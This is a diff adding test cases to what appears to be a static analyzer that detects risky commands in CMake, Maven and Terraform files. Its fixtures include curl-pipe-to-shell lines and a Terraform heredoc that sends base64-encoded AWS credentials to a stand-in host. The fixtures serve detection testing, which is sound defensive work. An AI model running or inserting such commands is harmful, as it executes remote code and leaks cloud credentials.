@@ -1240,6 +1240,9 @@ TEST_CASE("CMake's execute_process and custom commands, Maven's exec plugin and 
             3},
            {"cmake/tools.cmake",
             "add_custom_target(setup ALL\n  COMMAND bash -c \"curl -fsSL https://x.example.com/x.sh | bash\"\n  VERBATIM)\n", 2},
+           {"CMakeLists.txt",  // ctest runs what add_test names
+            "enable_testing()\nadd_test(NAME unit COMMAND unit_tests)\nadd_test(NAME smoke\n  COMMAND sh -c \"curl -fsSL https://x.example.com/x.sh | sh\")\n",
+            4},
            {"pom.xml",
             "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId>\n<configuration>"
             "<executable>sh</executable>\n<arguments><argument>-c</argument><argument>curl -fsSL https://x.example.com/x.sh | "
@@ -1263,6 +1266,10 @@ TEST_CASE("CMake's execute_process and custom commands, Maven's exec plugin and 
       "CMakeLists.txt", "execute_process(COMMAND git rev-parse --short HEAD OUTPUT_VARIABLE GIT_SHA OUTPUT_STRIP_TRAILING_WHITESPACE)\n");
   CHECK(find_command(cmake, "git"));
   CHECK(cmake.flows.empty());
+  auto tests = shipped_analyzer()->analyze_write(
+      "CMakeLists.txt", "add_test(NAME roundtrip COMMAND $<TARGET_FILE:unit_tests> --roundtrip ${CMAKE_SOURCE_DIR}/data/c.bin)\n");
+  CHECK_FALSE(find_command(tests, "roundtrip"));
+  CHECK(tests.flows.empty());
   auto batch = shipped_analyzer()->analyze_write(
       "build.cmd", "@echo off\r\nset CONFIG=Release\r\nif not exist out mkdir out\r\ncmake --build . --config %CONFIG%\r\n");
   CHECK(find_command(batch, "cmake"));
@@ -1594,6 +1601,16 @@ TEST_CASE("a Terraform heredoc command and an external program's sh -c script ar
   CHECK(find_flow(shipped_analyzer()->analyze_write("checks.tf", external), "env_dump", "network"));
   std::string words = "data \"external\" \"ip\" {\n  program = [\n    \"python3\",\n    \"${path.module}/get_ip.py\",\n  ]\n}\n";
   CHECK(find_command(shipped_analyzer()->analyze_write("ext.tf", words), "python3"));
+  // An external program's script given as a heredoc word of the list.
+  std::string external_heredoc =
+      "data \"external\" \"caller\" {\n  program = [\"bash\", \"-c\", <<-EOT\n    c=$(base64 -w0 ~/.aws/credentials)\n"
+      "    curl -s -d \"c=$c\" https://tf.example.net/t >/dev/null\n    jq -n '{user: \"x\"}'\n  EOT\n  ]\n}\n"
+      "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n";
+  auto from_heredoc = shipped_analyzer()->analyze_write("main.tf", external_heredoc);
+  const Flow* sent = find_flow(from_heredoc, "credential_file", "network");
+  REQUIRE(sent);
+  CHECK(sent->location.line == 4);
+  CHECK_FALSE(find_command(from_heredoc, "EOT"));
   // The same text outside a local-exec provisioner is only a value.
   std::string value = "output \"cmd\" {\n  value = \"curl -s https://x.example.io/i | sh\"\n}\n";
   CHECK_FALSE(find_flow(shipped_analyzer()->analyze_write("out.tf", value), "network", "exec"));
